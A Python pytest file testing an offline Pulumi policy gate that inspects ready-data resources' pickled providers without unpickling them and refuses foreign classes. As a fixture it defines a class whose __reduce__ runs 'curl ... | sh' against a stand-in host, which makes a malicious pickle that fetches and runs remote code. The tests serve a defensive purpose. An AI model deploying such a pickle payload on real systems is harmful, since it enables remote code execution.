"""The gate's own check (offline/providers.py): each ready-data resource's pickled provider is the
program's provider class for its kind and nothing else, read without unpickling it. A pack cannot
make this check under the CLI, which never shows it a `__provider`; the gate sends the pack the
properties the CLI would (offline/analyzer.py), and makes the check itself."""

from __future__ import annotations

import base64
import dataclasses
import os
import pickle
from typing import Any

import pytest
from google.protobuf import json_format, struct_pb2
from pulumi.dynamic.dynamic import serialize_provider

from components.readydata import JetStreamStreamProvider, S3BucketProvider
from offline.analyzer import PolicyPackServer, StackContext, without_internal_keys
from offline.engine import ROOT, UNKNOWN, Plan, Registration, Secret, run_program, sdk_pickle_restored
from offline.gate import GATE, PACK, run_gate
from offline.providers import READY_DATA_PREFIX, provider_findings, read_pickle

STREAM = f"{READY_DATA_PREFIX}JetStreamStream"
CI_CONFIG = ROOT / "policies" / "config" / "ci.json"


class _RunsAShell:
    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return os.system, ("curl -fsS https://x.example.net | sh",)


def _encoded(value: Any) -> str:
    with sdk_pickle_restored():
        return str(serialize_provider(value))


@pytest.fixture(scope="module")
def plan() -> Plan:
    return run_program("dev", preview=True)


@pytest.fixture(scope="module")
def stream(plan: Plan) -> Registration:
    return next(r for r in plan.resources if r.type == STREAM)


def test_the_programs_own_provider_pickle_is_one_class_of_its_module_and_plain_data(plan: Plan) -> None:
    contents = read_pickle(base64.b64decode(_encoded(JetStreamStreamProvider())))
    assert (contents.globals, contents.calls) == (("components.readydata.JetStreamStreamProvider",), ())
    ready = [r for r in plan.resources if r.type.startswith(READY_DATA_PREFIX)]
    assert len({r.type for r in ready}) == 4  # every kind the dev stack declares is judged, and passes
    assert list(provider_findings(ready)) == []


@pytest.mark.parametrize(
    ("provider", "problem"),
    [
        (
            lambda: _encoded(S3BucketProvider()),
            "its pickled provider names components.readydata.S3BucketProvider, "
            "not only components.readydata.JetStreamStreamProvider",
        ),
        (
            lambda: base64.b64encode(pickle.dumps(_RunsAShell())).decode(),
            "its pickled provider names posix.system and runs code while loading (REDUCE), "
            "not only components.readydata.JetStreamStreamProvider",
        ),
        (
            lambda: Secret(base64.b64encode(pickle.dumps(_RunsAShell())).decode()),
            "its pickled provider names posix.system and runs code while loading (REDUCE)",
        ),
        (lambda: "not base64!", "its pickled provider is not a readable pickle (Only base64 data is allowed)"),
        (lambda: base64.b64encode(b"\x80\x04junk").decode(), "its pickled provider is not a readable pickle"),
        (lambda: None, "it has no pickled provider"),
        (lambda: UNKNOWN, "its provider was unknown at preview, so what `up` would run is unknown"),
    ],
    ids=[
        "another kind's class",
        "a callable run on load",
        "secret",
        "not base64",
        "not a pickle",
        "missing",
        "unknown",
    ],
)
def test_a_ready_data_resource_whose_provider_is_not_the_programs_own_class_is_refused(
    stream: Registration, provider: Any, problem: str
) -> None:
    inputs = {key: value for key, value in stream.inputs.items() if key != "__provider"}
    value = provider()
    if value is not None:
        inputs["__provider"] = value
    [(urn, message)] = provider_findings([dataclasses.replace(stream, inputs=inputs)])
    assert urn == stream.urn
    assert message.startswith(f"{STREAM} {stream.name}: {problem}")


def test_the_gate_reports_a_borrowed_ready_data_type_as_its_own_mandatory_violation(plan: Plan) -> None:
    stream = next(r for r in plan.resources if r.type == STREAM)
    hostile = dataclasses.replace(
        stream, inputs={**stream.inputs, "__provider": base64.b64encode(pickle.dumps(_RunsAShell())).decode()}
    )
    resources = [hostile if r.urn == stream.urn else r for r in plan.resources]
    report = run_gate(dataclasses.replace(plan, resources=resources), CI_CONFIG)
    [violation] = report.mandatory
    assert (violation.policy, violation.urn, violation.by_gate) == ("ready-data-providers", stream.urn, True)
    assert f"[mandatory]  {GATE}  ready-data-providers" in report.format()


def test_the_pack_is_sent_no_internal_key_at_any_depth_as_the_cli_sends_none() -> None:
    wire = struct_pb2.Struct()
    wire.update(
        {
            "__provider": "gASV...",
            "name": "ORDERS",
            "nested": {"__defaults": [], "keep": [{"__x": 1, "y": 2}]},
        }
    )
    assert json_format.MessageToDict(without_internal_keys(wire)) == {
        "name": "ORDERS",
        "nested": {"keep": [{"y": 2.0}]},
    }


class _Recording:
    """The pack's stub, recording every request the gate sends it."""

    def __init__(self, stub: Any, sent: list[Any]) -> None:
        self._stub, self._sent = stub, sent

    def __getattr__(self, method: str) -> Any:
        rpc = getattr(self._stub, method)
        sent = self._sent

        class _Method:
            @staticmethod
            def future(request: Any, timeout: float) -> Any:
                sent.append(request)
                return rpc.future(request, timeout=timeout)

        return _Method()


def test_the_gate_sends_the_pack_no_pickled_provider_of_the_dev_stack(plan: Plan) -> None:
    sent: list[Any] = []
    with PolicyPackServer(PACK, context=StackContext("dev")) as server:
        server._stub = _Recording(server._stub, sent)  # type: ignore[assignment]
        server.analyze(plan.resources)
    analyzed = [r for r in sent if r.DESCRIPTOR.name == "AnalyzeRequest"]
    [stack] = [r for r in sent if r.DESCRIPTOR.name == "AnalyzeStackRequest"]
    ready = [r for r in analyzed if r.type.startswith(READY_DATA_PREFIX)]
    assert ready and all("kind" in r.properties.fields for r in ready)  # ready data, with its own fields
    assert not [r.urn for r in (*analyzed, *stack.resources) if "__provider" in r.properties.fields]
